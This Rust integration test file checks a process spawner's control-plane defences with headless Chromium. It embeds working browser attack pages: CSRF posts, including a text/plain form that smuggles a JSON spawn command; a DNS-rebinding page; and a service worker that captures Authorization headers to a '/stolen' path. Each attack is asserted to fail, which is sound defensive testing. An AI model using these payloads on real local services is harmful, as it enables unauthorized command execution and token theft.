//! The control plane's security model, proved in a real browser (headless Chromium) against
//! a real `spawner serve`: a page of another site, a DNS-rebinding page and a backend's own
//! page (with a service worker and a frame of the dashboard) each try to start a process,
//! read the API or another backend, or steal the dashboard's token; each attempt fails, and
//! nothing is started or read. Every attack runs against the default server and against
//! one started with `--no-token`, where only the browser rules stand in the way.
//! docs/operations.md, "Security model of the control plane", names these tests.

mod browser;
mod common;

use browser::Browser;
use common::*;
use futures_util::StreamExt;
use serde_json::{json, Value};
use spawner_core::State;
use std::sync::Arc;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// What an attacking page tries to run: it would leave a file behind.
fn spawn_body(marker: &std::path::Path) -> String {
    json!({"executable": {"command": ["sh", "-c", format!("touch {}", marker.display())]}})
        .to_string()
}

/// The two servers every attack meets.
const SETUPS: [&[&str]; 2] = [&[], &["--no-token"]];

/// A web site of the attacker's: answers every request with `page`, and closes the
/// connection (a rebinding page's later requests must open new ones).
struct Site {
    port: u16,
    task: tokio::task::JoinHandle<()>,
}

impl Site {
    async fn start(port: u16, page: String) -> Site {
        let listener = TcpListener::bind(("127.0.0.1", port)).await.expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let page = Arc::new(page);
        let task = tokio::spawn(async move {
            // Its connections end with it (Chromium may hold one it opened ahead of need).
            let mut connections = tokio::task::JoinSet::new();
            loop {
                let Ok((mut conn, _)) = listener.accept().await else {
                    return;
                };
                let page = page.clone();
                connections.spawn(async move {
                    let mut head = Vec::new();
                    let mut buf = [0u8; 4096];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match conn.read(&mut buf).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => head.extend_from_slice(&buf[..n]),
                        }
                    }
                    let answer = format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncache-control: no-store\r\n\
                         content-length: {}\r\nconnection: close\r\n\r\n{page}",
                        page.len()
                    );
                    let _ = conn.write_all(answer.as_bytes()).await;
                    let _ = conn.shutdown().await;
                });
            }
        });
        Site { port, task }
    }

    /// Stops listening and drops every connection; the port is free again.
    async fn stop(self) {
        self.task.abort();
        let _ = self.task.await;
    }
}

/// Shared by the attacking pages: `send(url, init)` says what came back, if anything could
/// be read.
const SEND: &str = r#"
async function send(url, init) {
  try {
    const r = await fetch(url, init);
    if (r.type === "opaque") return "sent, answer unreadable";
    return r.status + " " + (await r.text()).slice(0, 160);
  } catch (e) {
    return "error: " + e.message;
  }
}
"#;

/// Whether an attempt got nothing: no readable success.
fn got_nothing(outcome: &Value) -> bool {
    let text = outcome.as_str().unwrap_or_default();
    text.starts_with("error:")
        || text.starts_with("sent, answer unreadable")
        || text.starts_with("403 ")
}

/// What the server itself recorded: backends and pools, read with its token.
async fn recorded(server: &TestServer) -> (Vec<String>, Value) {
    let ids = server
        .client()
        .list(&[])
        .await
        .expect("list")
        .into_iter()
        .map(|b| b.id)
        .collect();
    let pools: Value = server
        .api()
        .get(format!("{}/v1/pools", server.url()))
        .send()
        .await
        .expect("pools")
        .json()
        .await
        .expect("json");
    (ids, pools)
}

/// A server for `args`, with one backend of the user's (the attacks try to stop it and read
/// its logs). With `--no-token` the test still lists through the API, unauthenticated.
async fn server_with_a_backend(port: u16, args: &[&str]) -> (TestServer, String) {
    let server = TestServer::start_at(port, args, None, &[]);
    let victim = ready_example(&server.client(), 300).await;
    (server, victim)
}

fn refusals(server: &TestServer) -> usize {
    server.log().matches("refused by the guard").count()
}

#[tokio::test]
async fn a_cross_site_page_can_neither_start_nor_read_anything() {
    if !browser::available() {
        return;
    }
    let b =
        Browser::start_with(&["--host-resolver-rules=MAP attacker.test 127.0.0.1".into()]).await;
    for args in SETUPS {
        let (server, victim) = server_with_a_backend(0, args).await;
        let marker_dir = tempfile::tempdir().expect("dir");
        let marker = marker_dir.path().join("started");
        let page = format!(
            r#"<!doctype html><body><iframe name="sink"></iframe><script>{SEND}
const SPAWN = {spawn};
window.attack = async (victim) => {{
  const out = {{}};
  for (const t of ["http://127.0.0.1:{port}", "http://localhost:{port}"]) {{
    const post = (type) => ({{method: "POST", mode: "no-cors", headers: {{"Content-Type": type}}, body: SPAWN}});
    out[t + " spawn as text"] = await send(t + "/v1/backends", post("text/plain"));
    out[t + " spawn as a form"] = await send(t + "/v1/backends", post("application/x-www-form-urlencoded"));
    out[t + " seed spawn"] = await send(t + "/spawn", post("text/plain"));
    out[t + " pool"] = await send(t + "/v1/pools", {{method: "POST", mode: "no-cors",
      headers: {{"Content-Type": "text/plain"}},
      body: JSON.stringify({{name: "evil", template: JSON.parse(SPAWN), min_ready: 1, max: 1}})}});
    out[t + " terminate"] = await send(t + "/v1/backends/" + victim + "/terminate", {{method: "POST", mode: "no-cors"}});
    out[t + " spawn as JSON"] = await send(t + "/v1/backends", {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: SPAWN}});
    out[t + " read the list"] = await send(t + "/v1/backends", {{}});
    out[t + " read logs"] = await send(t + "/v1/backends/" + victim + "/logs", {{}});
  }}
  // A form posted into a frame: a navigation, which fetch's rules do not cover. A text/plain
  // form can write a JSON body.
  await new Promise((resolve) => {{
    const f = document.createElement("form");
    f.method = "POST"; f.enctype = "text/plain"; f.target = "sink";
    f.action = "http://127.0.0.1:{port}/v1/backends";
    const i = document.createElement("input");
    const body = SPAWN.slice(0, -1) + ', "x": "';
    i.name = body; i.value = '"}}';
    f.appendChild(i); document.body.appendChild(f);
    document.getElementsByName("sink")[0].onload = resolve;
    f.submit();
    setTimeout(resolve, 3000);
  }});
  return out;
}};
</script></body>"#,
            spawn = serde_json::to_string(&spawn_body(&marker)).expect("js string"),
            port = server.port,
        );
        let site = Site::start(0, page).await;
        let before = refusals(&server);
        b.goto(&format!("http://attacker.test:{}/", site.port))
            .await;
        let out = b
            .js_async("return await window.attack(arguments[0]);", json!([victim]))
            .await;
        let attempts = out.as_object().expect("the page's results");
        assert_eq!(attempts.len(), 16, "{out}");
        for (what, outcome) in attempts {
            assert!(got_nothing(outcome), "{args:?} {what}: {outcome}");
        }
        // Nothing was started or changed, and the requests did reach the server.
        let (ids, pools) = recorded(&server).await;
        assert_eq!(ids, vec![victim.clone()], "{args:?}");
        assert_eq!(pools["pools"], json!([]), "{args:?}");
        assert_eq!(
            server.client().status(&victim).await.expect("status").state,
            State::Ready
        );
        assert!(!marker.exists());
        assert!(
            refusals(&server) - before >= 17,
            "{args:?}: the server refused fewer requests than the page sent:\n{}",
            server.log()
        );
        site.stop().await;
    }
}

#[tokio::test]
async fn a_dns_rebinding_page_can_neither_start_nor_read_anything() {
    if !browser::available() {
        return;
    }
    let b = Browser::start_with(&["--host-resolver-rules=MAP rebind.test 127.0.0.1".into()]).await;
    for args in SETUPS {
        // The attacker's page is served under its own name on the port Spawner will have,
        // then the name "rebinds": the same origin's later requests reach Spawner.
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .expect("a free port")
            .port();
        let marker_dir = tempfile::tempdir().expect("dir");
        let marker = marker_dir.path().join("started");
        let page = format!(
            r#"<!doctype html><script>{SEND}
const SPAWN = {spawn};
const json = {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: SPAWN}};
window.attack = async (victim) => ({{
  "spawn": await send("/v1/backends", json),
  "seed spawn": await send("/spawn", json),
  "read the list": await send("/v1/backends", {{}}),
  "read the list stream": await send("/v1/backends/stream", {{}}),
  "read a record": await send("/v1/backends/" + victim, {{}}),
  "read logs": await send("/v1/backends/" + victim + "/logs", {{}}),
  "terminate": await send("/v1/backends/" + victim + "/terminate", {{method: "POST"}}),
  "dashboard": await send("/", {{}}),
}});
</script>"#,
            spawn = serde_json::to_string(&spawn_body(&marker)).expect("js string"),
        );
        let site = Site::start(port, page).await;
        b.goto(&format!("http://rebind.test:{port}/")).await;
        b.wait_for(
            "the page",
            "return typeof window.attack === 'function';",
            json!([]),
        )
        .await;
        site.stop().await;

        let (server, victim) = server_with_a_backend(port, args).await;
        let out = b
            .js_async("return await window.attack(arguments[0]);", json!([victim]))
            .await;
        let attempts = out.as_object().expect("the page's results");
        assert_eq!(attempts.len(), 8, "{out}");
        for (what, outcome) in attempts {
            let text = outcome.as_str().unwrap_or_default();
            assert!(
                text.starts_with("403 ") && text.contains("host_not_allowed"),
                "{args:?} {what}: {outcome}"
            );
        }
        let (ids, _) = recorded(&server).await;
        assert_eq!(ids, vec![victim.clone()], "{args:?}");
        assert_eq!(
            server.client().status(&victim).await.expect("status").state,
            State::Ready
        );
        assert!(!marker.exists());
    }
}

/// A backend whose pages attack: its service worker claims `/` of its origin and reports
/// every `Authorization` header it sees to `/stolen` (the backend logs every path it
/// serves); its page frames the dashboard and calls the API and another backend.
const EVIL_APP: &str = r#"
import http.server, os
PAGE, SW = os.environ["EVIL_PAGE"], os.environ["EVIL_SW"]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print("GET", self.path, flush=True)
        path = self.path.split("?")[0]
        if path == "/sw.js":
            body, ctype, extra = SW, "text/javascript", [("Service-Worker-Allowed", "/")]
        elif path == "/":
            body, ctype, extra = PAGE, "text/html", []
        else:
            body, ctype, extra = "ok", "text/plain", []
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), H).serve_forever()
"#;

const EVIL_SW: &str = r#"
self.addEventListener("install", (e) => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const auth = e.request.headers.get("authorization");
  if (auth) fetch("/stolen?auth=" + encodeURIComponent(auth));
});
"#;

#[tokio::test]
async fn a_backend_s_page_gets_nothing_of_the_dashboard_the_api_or_other_backends() {
    if !browser::available() {
        return;
    }
    for args in SETUPS {
        let (server, other) = server_with_a_backend(0, args).await;
        let marker_dir = tempfile::tempdir().expect("dir");
        let marker = marker_dir.path().join("started");
        let page = format!(
            r#"<!doctype html><body><script>{SEND}
const SPAWN = {spawn};
const q = new URLSearchParams(location.search);
window.results = {{}};
(async () => {{
  const r = window.results;
  const frame = document.createElement("iframe");
  frame.src = q.get("dashboard");
  document.body.appendChild(frame);
  try {{
    const reg = await navigator.serviceWorker.register("/sw.js", {{scope: "/"}});
    await navigator.serviceWorker.ready;
    r["service worker"] = "registered for " + reg.scope;
  }} catch (e) {{ r["service worker"] = "error: " + e.message; }}
  try {{
    await navigator.serviceWorker.register(q.get("dashboard") + "sw.js", {{scope: q.get("dashboard")}});
    r["service worker on the dashboard"] = "registered";
  }} catch (e) {{ r["service worker on the dashboard"] = "error: " + e.message; }}
  for (const api of [q.get("dashboard"), q.get("api")]) {{
    r[api + " read the list"] = await send(api + "v1/backends", {{credentials: "include"}});
    r[api + " spawn as text"] = await send(api + "v1/backends", {{method: "POST", mode: "no-cors",
      headers: {{"Content-Type": "text/plain"}}, body: SPAWN}});
    r[api + " spawn as JSON"] = await send(api + "v1/backends", {{method: "POST",
      headers: {{"Content-Type": "application/json"}}, body: SPAWN}});
  }}
  r["read another backend"] = await send(q.get("other"), {{}});
  r["its own /v1/backends"] = await send("/v1/backends", {{}});
  r["the worker sees its own origin"] = await send("/probe", {{headers: {{"Authorization": "Bearer probe"}}}});
  window.done = true;
}})();
</script></body>"#,
            spawn = serde_json::to_string(&spawn_body(&marker)).expect("js string"),
        );
        let mut spec = spawner_core::BackendSpec::from_command(vec![
            "python3".into(),
            "-c".into(),
            EVIL_APP.into(),
        ]);
        spec.executable.env.insert("EVIL_PAGE".into(), page);
        spec.executable.env.insert("EVIL_SW".into(), EVIL_SW.into());
        let client = server.client();
        let (evil, _) = client.spawn(&spec).await.expect("spawn");
        wait_state(&client, &evil.id, State::Ready).await;

        let b = Browser::start().await;
        let dashboard = format!("{}/", server.url());
        let api = format!("http://localhost:{}/", server.port);
        let url = format!(
            "{}?dashboard={}&api={}&other={}",
            evil.url,
            dashboard,
            api,
            server.backend_url(&other)
        );
        b.goto(&url).await;
        let r = b
            .wait_for(
                "the page's results",
                "return window.done && window.results;",
                json!([]),
            )
            .await;
        let scope = r["service worker"].as_str().unwrap_or_default();
        assert_eq!(scope, format!("registered for {}", evil.url), "{r}");
        for (what, outcome) in r.as_object().expect("results") {
            match what.as_str() {
                "service worker" => {}
                "its own /v1/backends" | "the worker sees its own origin" => {
                    assert_eq!(outcome, "200 ok", "{what}: the backend's own path")
                }
                _ => assert!(got_nothing(outcome), "{args:?} {what}: {outcome}"),
            }
        }
        // The frame of the dashboard shows Chromium's error page, not the dashboard.
        let framed = b.js_in_frame(0, "return location.href;").await;
        assert!(
            framed.as_str().is_some_and(|u| !u.starts_with(&dashboard)),
            "the dashboard was framed: {framed}"
        );

        // Asked for by path on the dashboard's origin, the backend is shown at its own.
        b.goto(&format!("{}/p/{}/", server.url(), evil.id)).await;
        let at = b.js("return location.href;", json!([])).await;
        assert_eq!(at, json!(evil.url), "{args:?}");

        // The user then opens the dashboard in the same browser: no worker of the backend
        // controls it, and the token its requests carry reaches nobody else.
        let login = if args.is_empty() {
            server.login_link().await
        } else {
            dashboard.clone()
        };
        b.goto(&login).await;
        b.wait_for(
            "the list",
            "return document.querySelectorAll('#backend-rows .row').length >= 2;",
            json!([]),
        )
        .await;
        let controlled = b
            .js_async(
                "return [navigator.serviceWorker.controller === null, \
                 (await navigator.serviceWorker.getRegistrations()).length];",
                json!([]),
            )
            .await;
        assert_eq!(controlled, json!([true, 0]), "{args:?}");

        let logs = String::from_utf8(
            client
                .logs(&evil.id, false)
                .await
                .expect("logs")
                .map(|c| c.expect("chunk"))
                .collect::<Vec<_>>()
                .await
                .concat(),
        )
        .expect("utf-8");
        assert!(
            logs.contains("/stolen?auth=Bearer%20probe"),
            "the worker worked on its own origin: {logs}"
        );
        // Only its own probe: nothing the dashboard sent.
        let stolen: Vec<&str> = logs
            .lines()
            .filter(|l| l.contains("/stolen") && !l.contains("auth=Bearer%20probe"))
            .collect();
        assert!(stolen.is_empty(), "{args:?}: {stolen:?}");
        let (ids, _) = recorded(&server).await;
        assert_eq!(ids.len(), 2, "{args:?}: {ids:?}");
        assert!(!marker.exists());
        client.terminate(&evil.id, true).await.expect("terminate");
    }
}
